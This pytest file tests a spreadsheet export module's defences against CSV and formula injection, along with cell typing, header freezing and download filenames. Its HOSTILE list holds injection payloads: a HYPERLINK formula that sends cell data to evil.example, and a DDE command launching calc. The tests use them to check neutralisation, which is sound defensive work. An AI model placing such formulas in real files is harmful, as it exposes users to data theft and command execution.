"""The one spreadsheet writer of every export (issue 12 item 3, ADR 0043): text is never a
formula, numbers and dates are typed, the header is frozen with an autofilter; CSV fields that a
spreadsheet would read as a formula are neutralised (OWASP CSV injection). The oracle is an
independent reader: openpyxl (not the writer's code) reading the file back, and the csv module."""

from __future__ import annotations

import csv
import datetime as dt
import io
from urllib.parse import unquote

import pytest
from openpyxl import load_workbook

from shenguan.core.sheets import content_disposition, write_csv, write_xlsx

HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"x")',
    "+1+2",
    "-3+4",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\r=1+1",
    "=cmd|' /C calc'!A0",
]


def test_xlsx_round_trip_reads_every_hostile_value_back_as_text():
    data = write_xlsx(["申请人", "n"], [[v, i] for i, v in enumerate(HOSTILE)], title="标题")
    ws = load_workbook(io.BytesIO(data)).active
    cells = [row[0] for row in ws.iter_rows(min_row=3)]
    assert [c.data_type for c in cells] == ["s"] * len(HOSTILE)
    # A parser may turn a CR into LF when it reads the XML back (line-end normalisation; lxml
    # keeps it, the standard library's parser does not); the text is otherwise kept.
    assert [c.value.replace("\r", "\n") for c in cells] == [v.replace("\r", "\n") for v in HOSTILE]


def test_xlsx_typed_cells_header_widths_filter_and_freeze():
    day = dt.date(2026, 12, 7)
    at = dt.datetime(2026, 12, 7, 9, 30, 5)
    data = write_xlsx(
        ["办件编号", "件数", "决定日期", "推送时间", "身份证号码", "标记"],
        [["LC-1", 3, day, at, "371502198503120014", True], ["LC-2", 2.5, None, None, "", False]],
    )
    ws = load_workbook(io.BytesIO(data)).active
    assert ws.freeze_panes == "A2"
    assert ws.auto_filter.ref == "A1:F3"
    row = [c for c in next(ws.iter_rows(min_row=2, max_row=2))]
    assert row[1].value == 3 and row[1].data_type == "n"
    assert row[2].value == dt.datetime(2026, 12, 7) and row[2].is_date
    assert row[3].value == at and row[3].is_date
    assert row[4].value == "371502198503120014" and row[4].data_type == "s"  # never a number
    assert row[5].value == "是"
    assert ws.cell(1, 1).font.b
    # widths come from the content: the 18-digit number column is wider than the count column
    assert ws.column_dimensions["E"].width > ws.column_dimensions["B"].width >= 6


def test_xlsx_drops_characters_xml_cannot_hold():
    ws = load_workbook(io.BytesIO(write_xlsx(["a"], [["甲\x01乙"]]))).active
    assert ws.cell(2, 1).value == "甲乙"


@pytest.mark.parametrize("value", HOSTILE)
def test_csv_neutralises_formula_starts(value):
    text = write_csv(["申请人"], [[value]]).decode("utf-8")
    assert text.startswith("\ufeff")
    rows = list(csv.reader(io.StringIO(text[1:])))
    assert rows[1][0] == "'" + value


def test_csv_keeps_numbers_dates_and_plain_text():
    text = write_csv(
        ["a", "b", "c", "d"], [[-5, dt.date(2026, 1, 2), "后厨，油烟（有限合伙）", "a=b"]]
    ).decode("utf-8")
    rows = list(csv.reader(io.StringIO(text[1:])))
    assert rows[1] == ["-5", "2026-01-02", "后厨，油烟（有限合伙）", "a=b"]


def test_content_disposition_carries_the_chinese_name_and_an_ascii_fallback():
    h = content_disposition("办件-20261207.xlsx")
    assert 'filename="export.xlsx"' in h
    assert unquote(h.split("filename*=UTF-8''")[1]) == "办件-20261207.xlsx"
